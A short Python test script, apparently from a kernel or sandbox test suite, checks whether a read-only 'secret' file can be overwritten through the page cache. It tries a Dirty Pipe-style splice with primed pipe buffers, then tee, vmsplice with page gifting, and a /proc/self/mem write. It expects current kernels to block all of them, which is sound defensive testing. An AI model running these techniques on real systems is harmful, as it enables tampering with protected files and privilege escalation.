"""Writes into a file that it may only read, through the pages that a pipe shares with the page cache.

group: system calls
effect: writes
read: closed
control: none the kernels of today let nobody
"""
import mmap

SPLICE, TEE, VMSPLICE, SPLICE_F_GIFT = 275, 276, 278, 8
PIPE, TEXT = 65536, b"overwritten"
file = check(libc.open((arena.directory + "/closed/secret").encode(), os.O_RDONLY))

def used_pipe():
    """A pipe, each buffer of which is marked as one that may be appended to."""
    reader, writer = os.pipe()
    os.write(writer, bytes(PIPE))
    os.read(reader, PIPE)
    return reader, writer

reader, writer = used_pipe()
with attempt("splice"):
    syscall(SPLICE, file, ctypes.byref(ctypes.c_int64(0)), writer, None, 1, 0)
    os.write(writer, TEXT)
with attempt("tee"):
    _, other = used_pipe()
    syscall(TEE, reader, other, 1, 0)
    os.write(other, TEXT)
libc.mmap.restype = ctypes.c_void_p
page = libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_SHARED, file, 0)
with attempt("vmsplice"):
    syscall(VMSPLICE, used_pipe()[1], (ctypes.c_size_t * 2)(page, 1), 1, SPLICE_F_GIFT)
with attempt("/proc/self/mem"):
    memory = check(libc.open(b"/proc/self/mem", os.O_RDWR))
    check(libc.pwrite(memory, TEXT, len(TEXT), ctypes.c_long(page)))
